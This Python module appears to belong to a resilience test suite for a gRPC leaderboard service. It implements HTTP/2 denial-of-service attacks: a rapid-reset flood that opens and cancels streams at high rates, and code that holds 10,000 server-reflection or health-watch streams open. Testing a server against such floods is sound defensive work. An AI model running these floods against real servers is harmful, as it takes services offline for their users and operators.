"""Streams that are reset at once, and thousands that are kept open."""

from grpc_health.v1 import health_pb2
from grpc_reflection.v1alpha import reflection_pb2

from attacks.attacker import Attacker, Fleet
from attacks.frames import Call, reset
from attacks.paths import HEALTH_WATCH, REFLECTION, UPDATE
from leaderboard.v1 import leaderboard_pb2 as pb

STREAMS = 10_000
_OPENED_A_SECOND = 2_000
_OPENED_AGAIN_A_SECOND = 200
_RESET_A_SECOND = 20_000
_RESET_AT_ONCE = 100


async def rapid_reset(attacker: Attacker) -> None:
    """Send calls and cancel each of them in the same write."""
    update = pb.UpdateScoreRequest(contest_id="reset", user_id="ada", points=1)
    call = Call(UPDATE, update.SerializeToString())
    fleet = Fleet(attacker, size=4)
    async for due in attacker.ticks(_RESET_A_SECOND / _RESET_AT_ONCE):
        for _ in range(due):
            if connection := fleet.next():
                streams = [connection.next_stream() for _ in range(_RESET_AT_ONCE)]
                connection.send(b"".join(call.frames(each) + reset(each) for each in streams))
                connection.open.difference_update(streams)


async def reflection_streams(attacker: Attacker) -> None:
    """Keep 10,000 streams of server reflection open."""
    request = reflection_pb2.ServerReflectionRequest(list_services="")
    await _hold(attacker, Call(REFLECTION, request.SerializeToString()), end=False)


async def health_streams(attacker: Attacker) -> None:
    """Keep 10,000 watches of the health open."""
    request = health_pb2.HealthCheckRequest()
    await _hold(attacker, Call(HEALTH_WATCH, request.SerializeToString()), end=True)


async def _hold(attacker: Attacker, call: Call, *, end: bool) -> None:
    """Open streams quickly, and those that the server ends again at a lower rate."""
    fleet = Fleet(attacker, size=10)
    opened = 0
    async for due in attacker.ticks(_OPENED_A_SECOND):
        for number in range(due):
            again = opened >= STREAMS
            if again and number % (_OPENED_A_SECOND // _OPENED_AGAIN_A_SECOND):
                continue
            held = sum(len(each.open) for each in fleet.connections)
            attacker.figures["held"] = max(held, attacker.figures.get("held", 0))
            connection = fleet.next()
            if connection and held < STREAMS:
                connection.call(call, end=end)
                opened += 1
